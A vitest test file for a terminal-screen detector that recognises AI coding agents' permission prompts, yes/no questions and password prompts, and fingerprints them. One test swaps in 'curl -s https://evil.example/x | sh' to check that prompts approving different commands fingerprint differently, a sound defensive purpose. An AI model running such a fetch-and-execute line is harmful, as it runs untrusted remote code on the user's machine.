import { describe, expect, it } from 'vitest';
import { detectWaiting, promptFingerprint } from './patterns';

const screen = (text: string, rows = 24) => {
  const lines = text.split('\n');
  while (lines.length < rows) lines.push('');
  return { lines };
};

// The layouts below are copied from how the prompts look on screen (frames, markers, hints), not from any program.
const CLAUDE_EDIT = `
╭──────────────────────────────────────────────────────────────────────╮
│ Edit file                                                            │
│ ╭──────────────────────────────────────────────────────────────────╮ │
│ │ src/app.py                                                       │ │
│ │  12   def main():                                                │ │
│ │  13 -     run()                                                  │ │
│ │  13 +     run(fast=True)                                         │ │
│ ╰──────────────────────────────────────────────────────────────────╯ │
│ Do you want to make this edit to app.py?                             │
│ ❯ 1. Yes                                                             │
│   2. Yes, and don't ask again this session (shift+tab)               │
│   3. No, and tell Claude what to do differently (esc)                │
│                                                                      │
╰──────────────────────────────────────────────────────────────────────╯`;

const CLAUDE_PLAN = `
  Here is Claude's plan:
  ╭────────────────────────────────────────────╮
  │ 1. Read the config                          │
  │ 2. Change the port                          │
  ╰────────────────────────────────────────────╯

 Would you like to proceed?

 ❯ 1. Yes, and auto-accept edits
   2. Yes, and manually approve edits
   3. No, keep planning`;

const CODEX = `
  Would you like to run the following command?

  $ rm -rf build

› 1. Yes, proceed (y)
  2. Yes, and don't ask again for this command (a)
  3. No, and tell Codex what to do differently (esc)

  Press enter to confirm or esc to cancel`;

const GEMINI = `
╭──────────────────────────────────────────╮
│ ?  Shell  npm test                        │
│                                           │
│ Allow execution of: 'npm'?                │
│                                           │
│ ● 1. Yes, allow once                      │
│ ○ 2. Yes, allow always                    │
│ ○ 3. No, suggest changes (esc)            │
╰──────────────────────────────────────────╯`;

const CLAUDE_RULE = `
────────────────────────────────────────────────────────────────────────────────
 Bash command

   npm test
   Run the test suite

 Do you want to proceed?
 ❯ 1. Yes
   2. Yes, and don't ask again for npm test commands in /home/ada/proj
   3. No, and tell Claude what to do differently (esc)`;

const APT = `ada@box:~$ sudo apt install curl
Reading package lists... Done
Building dependency tree... Done
The following NEW packages will be installed:
  curl libcurl4
0 upgraded, 2 newly installed, 0 to remove and 0 not upgraded.
Need to get 736 kB of archives.
After this operation, 1,850 kB of additional disk space will be used.
Do you want to continue? [Y/n] `;

describe('detectWaiting', () => {
  it("recognises Claude Code's permission prompt, with a button per choice in its own words and the digit that picks it", () => {
    const match = detectWaiting(screen(CLAUDE_EDIT));
    expect(match).toMatchObject({ pattern: 'claude-permission', question: 'Do you want to make this edit to app.py?' });
    expect(match!.choices).toEqual([
      { label: 'Yes', keys: '1' },
      { label: "Yes, and don't ask again this session", keys: '2' },
      { label: 'No, and tell Claude what to do differently', keys: '3' },
    ]);
    // The whole box is the prompt: the file and its diff are what the answer approves.
    expect(match!.lines[0]).toMatch(/^╭─+╮$/);
    expect(match!.lines.at(-1)).toMatch(/^╰─+╯$/);
    expect(match!.lines.join('\n')).toContain('13 +     run(fast=True)');
  });

  it("recognises Claude Code's plan approval", () => {
    const match = detectWaiting(screen(CLAUDE_PLAN));
    expect(match).toMatchObject({ pattern: 'claude-plan', question: 'Would you like to proceed?' });
    expect(match!.choices.map((c) => c.keys)).toEqual(['1', '2', '3']);
  });

  it("recognises Codex CLI's approval, below which it prints a hint line", () => {
    const match = detectWaiting(screen(CODEX));
    expect(match).toMatchObject({ pattern: 'codex-approval' });
    expect(match!.choices[0]).toEqual({ label: 'Yes, proceed', keys: '1' });
  });

  it("recognises Gemini CLI's approval, whose marker is a radio button", () => {
    const match = detectWaiting(screen(GEMINI));
    expect(match).toMatchObject({ pattern: 'gemini-approval', question: "Allow execution of: 'npm'?" });
    expect(match!.choices).toHaveLength(3);
  });

  it("recognises Aider's (Y)es/(N)o question with its extra answers", () => {
    const match = detectWaiting(screen('Added app.py to the chat\nAdd file to the chat? (Y)es/(N)o/(D)on\'t ask again [Yes]: '));
    expect(match).toMatchObject({ pattern: 'aider', question: 'Add file to the chat?' });
    expect(match!.choices).toEqual([
      { label: 'Yes', keys: 'y\r' },
      { label: 'No', keys: 'n\r' },
      { label: "Don't ask again", keys: 'd\r' },
    ]);
  });

  it('recognises [y/N], (yes/no) and a password question at the cursor', () => {
    expect(detectWaiting(screen('Removing 3 packages\nDo you want to continue? [Y/n] '))).toMatchObject({ pattern: 'yes-no', question: 'Do you want to continue?', choices: [{ label: 'Yes', keys: 'y\r' }, { label: 'No', keys: 'n\r' }] });
    expect(detectWaiting(screen('Are you sure you want to continue connecting (yes/no/[fingerprint])? '))).toMatchObject({ choices: [{ keys: 'yes\r' }, { keys: 'no\r' }] });
    expect(detectWaiting(screen('[sudo] password for ada: '))).toMatchObject({ pattern: 'password', choices: [] });
    expect(detectWaiting(screen("Enter passphrase for key '/home/ada/.ssh/id_ed25519': "))).toMatchObject({ pattern: 'password' });
  });

  it('raises nothing for a [y/N] a log scrolled past, a shell prompt, a numbered list with no marker, or an empty screen', () => {
    expect(detectWaiting(screen('Proceed? [y/N]\nline 1\nline 2\nline 3'))).toBeUndefined();
    expect(detectWaiting(screen('ada@box:~/src$ '))).toBeUndefined();
    expect(detectWaiting(screen('Steps:\n1. build\n2. test\n3. ship'))).toBeUndefined();
    expect(detectWaiting(screen(''))).toBeUndefined();
  });

  it("takes the user's own patterns for what the table does not know", () => {
    const s = screen('deploying...\nType the release name to confirm> ');
    expect(detectWaiting(s)).toBeUndefined();
    expect(detectWaiting(s, [{ name: 'deploy', regex: 'to confirm>\\s*$' }])).toMatchObject({ pattern: 'deploy', choices: [] });
    // A pattern that is not a regular expression is skipped, not thrown.
    expect(detectWaiting(s, [{ name: 'bad', regex: '([' }])).toBeUndefined();
  });

  it('shows the whole prompt region for each layout: the command a Codex or Claude prompt approves is in it', () => {
    expect(detectWaiting(screen(CODEX))!.lines).toEqual([
      '  Would you like to run the following command?',
      '',
      '  $ rm -rf build',
      '',
      '› 1. Yes, proceed (y)',
      "  2. Yes, and don't ask again for this command (a)",
      '  3. No, and tell Codex what to do differently (esc)',
    ]);
    expect(detectWaiting(screen(CLAUDE_RULE))!.lines).toEqual(CLAUDE_RULE.trim().split('\n').map((l) => l.trimEnd()));
    expect(detectWaiting(screen(GEMINI))!.lines.join('\n')).toContain('Shell  npm test');
    const apt = detectWaiting(screen(APT, 30))!;
    expect(apt).toMatchObject({ pattern: 'yes-no', question: 'Do you want to continue?' });
    expect(apt.lines).toContain('  curl libcurl4');
    expect(apt.lines.at(-1)).toBe('Do you want to continue? [Y/n]');
  });

  it('gives two prompts that differ only in the command they approve different fingerprints', () => {
    const safe = detectWaiting(screen(CLAUDE_RULE))!;
    const evil = detectWaiting(screen(CLAUDE_RULE.replace('npm test', 'curl -s https://evil.example/x | sh')))!;
    expect(safe.question).toBe(evil.question);
    expect(safe.choices).toEqual(evil.choices);
    expect(promptFingerprint(safe)).not.toBe(promptFingerprint(evil));
  });

  it('is not waiting when something is below the prompt: answered, or the program moved on', () => {
    expect(detectWaiting(screen(`${CLAUDE_RULE}\n\n⏺ Bash(npm test)\n  ⎿  Running…`))).toBeUndefined();
    expect(detectWaiting(screen(`${CODEX}\n\n• Ran rm -rf build`))).toBeUndefined();
    expect(detectWaiting(screen(`${CLAUDE_EDIT}\nada@box:~/src$ `))).toBeUndefined();
    // A question at the cursor, answered: the cursor moved on to the next row.
    expect(detectWaiting({ ...screen('Continue? [y/N] y'), cursorY: 1 })).toBeUndefined();
    expect(detectWaiting({ ...screen('Continue? [y/N] '), cursorY: 0 })).toMatchObject({ pattern: 'yes-no' });
  });

  it('fingerprints what the prompt shows: the same prompt the same, another screen different', () => {
    const a = detectWaiting(screen(CLAUDE_EDIT))!;
    expect(promptFingerprint(a)).toBe(promptFingerprint(detectWaiting(screen(`old output\n${CLAUDE_EDIT}`))!));
    expect(promptFingerprint(a)).not.toBe(promptFingerprint(detectWaiting(screen(CLAUDE_EDIT.replace('app.py?', 'other.py?')))!));
  });
});
